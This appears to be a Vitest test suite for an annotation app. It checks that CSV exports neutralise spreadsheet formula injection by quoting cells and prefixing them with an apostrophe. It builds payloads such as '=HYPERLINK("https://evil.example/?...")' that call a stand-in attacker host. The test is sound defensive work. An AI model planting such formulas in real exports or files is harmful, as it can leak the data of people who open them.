import { parse } from 'csv-parse/sync'
import { eq } from 'drizzle-orm'
import { JSDOM } from 'jsdom'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import * as Y from 'yjs'
import { findUserByEmail, type User } from '#db/queries/accounts.ts'
import { users } from '#db/schema/index.ts'
import { demoDocuments, demoGroups, demoPassword, seedDemo } from '#seeds/demo.ts'
import { startTestApp, type TestApp } from '#tests/support/app.ts'
import { anchorFor } from '#tests/support/annotations.ts'
import { FormClient } from '#tests/support/http-client.ts'
import { documentFragmentName } from '#app/editor/yjs.ts'

/**
 * Formula injection (OWASP "CSV Injection"): every cell a member can write
 * (quote, body, tags, author's name) starting with a character a spreadsheet
 * evaluates, exported through the real job and download route.
 */

let app: TestApp
const document = demoDocuments[0].id
const otherDocument = demoDocuments[1].id
/** The characters OWASP lists, each with a payload that a spreadsheet would run. */
const starts = ['=', '+', '-', '@', '\t', '\r'] as const
const payload = (start: string, what: string) => `${start}HYPERLINK("https://evil.example/?${what}","x")`
const authors: Record<'owner' | 'moderator' | 'reviewer', User> = {} as never
let owner: FormClient

async function exportCsv(client: FormClient, path: string) {
	const started = await client.post(path, { format: 'csv' })
	expect(started.status).toBe(302)
	const progressPath = started.headers.get('location')!
	for (let i = 0; i < 100; i++) {
		const page = new JSDOM(await (await client.get(progressPath)).text()).window.document
		const status = page.querySelector('[data-status]')?.getAttribute('data-status')
		if (status === 'done') {
			const file = await client.get(page.querySelector('a[download]')!.getAttribute('href')!)
			expect(file.status).toBe(200)
			return file.text()
		}
		expect(status).toBe('running')
		await new Promise((resolve) => setTimeout(resolve, 50))
	}
	throw new Error('the export did not finish')
}

async function renameAuthors(names: string[]) {
	for (const [i, role] of (['owner', 'moderator', 'reviewer'] as const).entries()) {
		await app.database.db.update(users).set({ name: names[i]! }).where(eq(users.id, authors[role].id))
	}
}

beforeAll(async () => {
	app = await startTestApp({ placeAnchorsAfterMs: 20 })
	await seedDemo(app.database.db)
	for (const role of ['owner', 'moderator', 'reviewer'] as const) {
		authors[role] = (await findUserByEmail(app.database.db, `${role}@scholion.test`))!
	}
	// One paragraph per character, so that each quote starts with it.
	const anchors = await app.server.collab.withDocument(document, (room) => {
		const fragment = room.doc.getXmlFragment(documentFragmentName)
		room.doc.transact(() => {
			for (const start of starts) {
				const paragraph = new Y.XmlElement('paragraph')
				paragraph.insert(0, [new Y.XmlText(payload(start, 'quote'))])
				fragment.insert(fragment.length, [paragraph])
			}
		})
		const copy = new Y.Doc()
		Y.applyUpdate(copy, Y.encodeStateAsUpdate(room.doc))
		return starts.map((start) => anchorFor(copy, payload(start, 'quote')))
	})
	for (const [i, start] of starts.entries()) {
		const author = authors[(['owner', 'moderator', 'reviewer'] as const)[i % 3]!]
		await app.server.annotations.create(author, document, {
			motivation: 'commenting',
			body: payload(start, 'body'),
			tags: [payload(start, 'tag')],
			status: 'submitted',
			anchor: anchors[i]!,
		})
	}
	owner = new FormClient(app.url)
	expect((await owner.post('/login', { email: 'owner@scholion.test', password: demoPassword })).status).toBe(302)
})
afterAll(async () => {
	await app?.close()
})

describe('CSV exports against formula injection', () => {
	test('every cell starting with =, +, -, @, tab or carriage return is quoted and starts with a single quote', async () => {
		await renameAuthors(starts.slice(0, 3).map((start) => payload(start, 'author')))
		const first = await exportCsv(owner, `/documents/${document}/export`)
		await renameAuthors(starts.slice(3).map((start) => payload(start, 'author')))
		const second = await exportCsv(owner, `/documents/${document}/export`)

		for (const [text, authorStarts] of [[first, starts.slice(0, 3)], [second, starts.slice(3)]] as const) {
			const rows = parse(text, { bom: true, columns: true, relax_quotes: false }) as Record<string, string>[]
			expect(rows).toHaveLength(starts.length)
			// Parsed back, each cell is the original text behind one apostrophe: nothing lost, nothing evaluated.
			for (const start of starts) {
				const row = rows.find((r) => r.body === `'${payload(start, 'body')}`)
				expect(row, `the annotation whose body starts with ${JSON.stringify(start)}`).toBeDefined()
				expect(row!.quote).toBe(`'${payload(start, 'quote')}`)
				// Tags are stored trimmed and in lower case: a tab or carriage return never starts one.
				const tag = payload(start, 'tag').toLowerCase().trim()
				expect(row!.tags).toBe(tag.startsWith('h') ? tag : `'${tag}`)
			}
			expect(new Set(rows.map((r) => r.author))).toEqual(new Set(authorStarts.map((start) => `'${payload(start, 'author')}`)))
			// In the file itself, every such cell is inside double quotes, so no separator or line break in it can end it early.
			for (const start of starts) expect(text).toContain(`"'${payload(start, 'body').replaceAll('"', '""')}"`)
			// No cell of any column (prefix and suffix too) starts a formula.
			for (const row of rows) for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r]/)
			// Offsets are numbers a spreadsheet can still sum: unquoted and unprefixed.
			for (const row of rows) {
				expect(row.start).toMatch(/^\d+$/)
				expect(text).toContain(`,${row.start},${row.end},`)
			}
		}
	})

	test('ordinary text and other documents’ exports are unchanged', async () => {
		const text = await exportCsv(owner, `/groups/${demoGroups.seminar.id}/export`)
		const rows = parse(text, { bom: true, columns: true }) as Record<string, string>[]
		expect(rows.map((r) => r.motivation)).toContain('commenting')
		expect(rows.every((r) => !r.id!.startsWith("'") && !r.created!.startsWith("'"))).toBe(true)
		const untouched = await exportCsv(owner, `/documents/${otherDocument}/export`)
		expect(untouched).not.toContain("'")
	})
})
